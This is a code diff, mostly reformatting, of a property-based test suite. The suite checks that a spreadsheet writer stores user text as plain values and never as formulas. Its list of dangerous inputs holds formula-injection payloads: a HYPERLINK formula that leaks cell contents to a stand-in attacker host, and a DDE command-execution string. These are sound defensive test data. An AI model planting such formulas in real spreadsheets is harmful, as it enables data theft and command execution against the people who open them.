@@ -12,10 +12,29 @@ import { filledSheets } from "../../src/workbook/services";
 import { harness } from "./excel-harness";
 
 /** Texts that a spreadsheet would take for a formula, a number, a date or a DDE call if written as input. */
-const DANGEROUS = ["=", "+", "-", "@", "\t=", "\r=", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "=1+1", "+7 701", "-2", "@SUM(A1)", "'=", "=\"x\"", "=BAGALAU.TOTAL(A1)"];
+const DANGEROUS = [
+  "=",
+  "+",
+  "-",
+  "@",
+  "\t=",
+  "\r=",
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  "=1+1",
+  "+7 701",
+  "-2",
+  "@SUM(A1)",
+  "'=",
+  '="x"',
+  "=BAGALAU.TOTAL(A1)",
+];
 
 /** A user text: a dangerous opening, arbitrary text, and a tag saying which field it is (to find it in the output). */
-const userText = (tag: string) => fc.tuple(fc.constantFrom(...DANGEROUS), fc.string({ maxLength: 12 })).map(([start, rest]) => `${start}${rest.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, "")} USR${tag}`);
+const userText = (tag: string) =>
+  fc
+    .tuple(fc.constantFrom(...DANGEROUS), fc.string({ maxLength: 12 }))
+    .map(([start, rest]) => `${start}${rest.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, "")} USR${tag}`);
 
 const texts = fc.record({
   body: userText("body"),
@@ -31,7 +50,9 @@ const texts = fc.record({
   measures: userText("meas"),
 });
 
-type Texts = { [K in "body" | "goal" | "task" | "indicator" | "unit" | "source" | "responsible" | "result" | "sphere" | "risk" | "measures"]: string };
+type Texts = {
+  [K in "body" | "goal" | "task" | "indicator" | "unit" | "source" | "responsible" | "result" | "sphere" | "risk" | "measures"]: string;
+};
 
 function evaluationWith(t: Texts): Evaluation {
   return parseEvaluation({
@@ -43,7 +64,20 @@ function evaluationWith(t: Texts): Evaluation {
       {
         code: "1",
         name: t.goal,
-        indicators: [{ code: "1.1", name: t.indicator, unit: t.unit, source: t.source, responsible: t.responsible, better: "higher", data: "official", base: 50, plan: 100, fact: 90 }],
+        indicators: [
+          {
+            code: "1.1",
+            name: t.indicator,
+            unit: t.unit,
+            source: t.source,
+            responsible: t.responsible,
+            better: "higher",
+            data: "official",
+            base: 50,
+            plan: 100,
+            fact: 90,
+          },
+        ],
         tasks: [{ code: "1.1", name: t.task, results: [{ name: t.result, unit: t.unit, plan: 10, fact: 9 }] }],
       },
     ],
@@ -89,15 +123,20 @@ test("the .xlsx writer (file mode and CLI): no <f> element holds user text; user
       // And read back, every text is a plain string value (not a formula object).
       const reopened = await XlsxWorkbookPort.fromBytes(await port.toBytes());
       const values = new Set<string>();
-      reopened.workbook.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
-        if (typeof cell.value === "string") values.add(cell.value);
-        if (cell.formula) expect(cell.formula).not.toContain("USR");
-      })));
+      reopened.workbook.eachSheet((ws) =>
+        ws.eachRow((row) =>
+          row.eachCell((cell) => {
+            if (typeof cell.value === "string") values.add(cell.value);
+            if (cell.formula) expect(cell.formula).not.toContain("USR");
+          }),
+        ),
+      );
       // The names BAGALAU writes as they are typed come back exactly (free texts such as the risk measures may be
       // normalized by the reader; none of them is in a formula, as checked above).
       // (A CR comes back as LF: XML turns a bare CR in text into a line feed, and ExcelJS writes it bare.)
       const saved = (text: string) => text.replace(/\r\n?/g, "\n");
-      for (const text of [t.body, t.goal, t.task, t.indicator, t.sphere, t.risk]) expect(values.has(saved(text).trim()) || values.has(saved(text))).toBe(true);
+      for (const text of [t.body, t.goal, t.task, t.indicator, t.sphere, t.risk])
+        expect(values.has(saved(text).trim()) || values.has(saved(text))).toBe(true);
     }),
     RUNS,
   );
@@ -106,7 +145,10 @@ test("the .xlsx writer (file mode and CLI): no <f> element holds user text; user
 test("ExcelPort.writeValues (the profile cells) writes text with the marker", async () => {
   const h = harness();
   h.book.setRows("S", [["x"]]);
-  await h.port.writeValues([{ ref: { sheet: "S", row: 1, column: 1 }, value: "=cmd|' /C calc'!A0" }, { ref: { sheet: "S", row: 1, column: 2 }, value: "@SUM(A1)" }]);
+  await h.port.writeValues([
+    { ref: { sheet: "S", row: 1, column: 1 }, value: "=cmd|' /C calc'!A0" },
+    { ref: { sheet: "S", row: 1, column: 2 }, value: "@SUM(A1)" },
+  ]);
   expect(h.book.sheet("S")!.peek(1, 1)).toMatchObject({ value: "=cmd|' /C calc'!A0", formula: undefined });
   expect(h.book.sheet("S")!.peek(1, 2)).toMatchObject({ value: "@SUM(A1)", formula: undefined });
 });
